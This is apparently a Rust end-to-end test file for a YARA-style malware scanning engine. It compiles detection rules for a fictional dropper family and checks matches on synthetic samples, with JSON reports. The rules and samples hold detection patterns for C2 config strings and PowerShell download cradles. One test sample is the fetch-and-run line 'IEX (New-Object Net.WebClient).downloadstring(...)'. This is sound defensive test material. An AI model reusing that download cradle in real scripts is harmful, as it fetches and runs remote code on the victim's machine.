//! End-to-end tests: realistic rulesets compiled from source, scanned over
//! synthetic samples and reported as JSON.

use scan_engine::{compile, Compiler, ScanConfig};
use serde_json::Value as Json;

const MALWARE_RULES: &str = r#"
/*
 * Detection rules for a made-up dropper family.
 */
private rule is_pe
{
    condition:
        uint16(0) == 0x5A4D and uint32(0x3C) < filesize
}

rule dropper_strings : dropper windows
{
    meta:
        family = "ExampleDropper"
        severity = 8
    strings:
        $url = "http://update.example.com/" nocase
        $mutex = "Global\\ExampleMutex" wide ascii
        $key = { 8B 45 ?? 35 [2-4] C3 }
        $ua = /Mozilla\/[0-9]\.[0-9] \(compatible\)/
    condition:
        is_pe and 2 of them
}

rule obfuscated_config : dropper
{
    strings:
        $cfg = "c2_server=" xor(1-255)
    condition:
        is_pe and $cfg
}

rule script_downloader
{
    strings:
        $iex = "IEX" fullword
        $dl = "DownloadString" nocase
        $enc = "powershell" base64
    condition:
        ($iex and $dl) or $enc
}
"#;

fn sample_pe(body: &[u8]) -> Vec<u8> {
    let mut data = vec![0u8; 0x40];
    data[0] = b'M';
    data[1] = b'Z';
    data[0x3C] = 0x40;
    data.extend_from_slice(body);
    data
}

#[test]
fn test_dropper_detection() {
    let rules = compile(MALWARE_RULES).unwrap();

    let mut body = b"GET HTTP://UPDATE.EXAMPLE.COM/payload ".to_vec();
    body.extend_from_slice(&[0x8B, 0x45, 0x08, 0x35, 1, 2, 3, 0xC3]);
    let results = rules.scan(&sample_pe(&body));
    assert_eq!(results.rule_names().collect::<Vec<_>>(), ["dropper_strings"]);

    let rule = results.get("dropper_strings").unwrap();
    assert_eq!(rule.tags, ["dropper", "windows"]);

    // Same strings without a PE header: the private rule gates both.
    assert!(rules.scan(&body).is_empty());
}

#[test]
fn test_wide_mutex_and_user_agent() {
    let rules = compile(MALWARE_RULES).unwrap();
    let mut body: Vec<u8> = "Global\\ExampleMutex"
        .bytes()
        .flat_map(|b| [b, 0])
        .collect();
    body.extend_from_slice(b" Mozilla/5.0 (compatible) ");
    assert!(rules.scan(&sample_pe(&body)).matched("dropper_strings"));
}

#[test]
fn test_xor_encoded_config() {
    let rules = compile(MALWARE_RULES).unwrap();
    let encoded: Vec<u8> = b"c2_server=10.0.0.1".iter().map(|b| b ^ 0x5A).collect();
    let results = rules.scan(&sample_pe(&encoded));
    assert!(results.matched("obfuscated_config"));
    assert!(!results.matched("dropper_strings"));
}

#[test]
fn test_script_downloader() {
    let rules = compile(MALWARE_RULES).unwrap();

    let script = b"IEX (New-Object Net.WebClient).downloadstring('http://x')";
    assert!(rules.scan(script).matched("script_downloader"));

    // `IEX` glued to other word characters is not a full word.
    let glued = b"XIEXY (New-Object Net.WebClient).DownloadString('http://x')";
    assert!(!rules.scan(glued).matched("script_downloader"));

    // base64 of "run powershell -nop"
    assert!(rules
        .scan(b"cmd /c echo cnVuIHBvd2Vyc2hlbGwgLW5vcA== | decode")
        .matched("script_downloader"));
}

#[test]
fn test_json_report() {
    let rules = compile(
        r#"
        rule tagged : alpha beta {
            meta:
                author = "analyst"
                score = 7
            strings:
                $a = "needle"
                $hidden = "hay" private
            condition:
                $a and $hidden
        }
        "#,
    )
    .unwrap();
    let config = ScanConfig {
        include_match_data: true,
        ..Default::default()
    };
    let results = rules.scan_with_config(b"haystack with a needle", &config).unwrap();
    let json: Json = serde_json::from_str(&results.to_json().unwrap()).unwrap();

    let rule = &json["matching_rules"][0];
    assert_eq!(rule["name"], "tagged");
    assert_eq!(rule["tags"], serde_json::json!(["alpha", "beta"]));
    assert_eq!(rule["metadata"][0], serde_json::json!(["author", "analyst"]));
    assert_eq!(rule["metadata"][1], serde_json::json!(["score", 7]));
    assert_eq!(
        rule["patterns"],
        serde_json::json!([
            { "identifier": "$a", "matches": [{ "offset": 16, "length": 6 }] }
        ])
    );
}

#[test]
fn test_compiling_twice_gives_identical_reports() {
    let samples: Vec<Vec<u8>> = vec![
        sample_pe(b"http://update.example.com/ Mozilla/1.0 (compatible)"),
        b"IEX DownloadString".to_vec(),
        Vec::new(),
        sample_pe(&[0x8B, 0x45, 0x00, 0x35, 0, 0, 0xC3]),
    ];
    let config = ScanConfig {
        include_match_data: true,
        ..Default::default()
    };

    let first = compile(MALWARE_RULES).unwrap();
    let second = compile(MALWARE_RULES).unwrap();
    for sample in &samples {
        let a = first.scan_with_config(sample, &config).unwrap();
        let b = second.scan_with_config(sample, &config).unwrap();
        assert_eq!(a, b);
        assert_eq!(a.to_json().unwrap(), b.to_json().unwrap());
    }
}

#[test]
fn test_incremental_build_matches_single_unit() {
    let units = [
        "private rule is_pe { condition: uint16(0) == 0x5A4D }",
        r#"rule packed { strings: $upx = "UPX!" condition: is_pe and $upx }"#,
        r#"rule big_packed { condition: packed and filesize > 64 }"#,
    ];

    let mut compiler = Compiler::new();
    for unit in units {
        compiler.add_source(unit).unwrap();
    }
    let incremental = compiler.build().unwrap();
    let single = compile(&units.join("\n")).unwrap();

    let mut sample = sample_pe(b"UPX!");
    for data in [sample.clone(), b"UPX!".to_vec()] {
        assert_eq!(incremental.scan(&data), single.scan(&data));
    }
    sample.extend_from_slice(&[0; 64]);
    let results = incremental.scan(&sample);
    assert_eq!(
        results.rule_names().collect::<Vec<_>>(),
        ["packed", "big_packed"]
    );
}
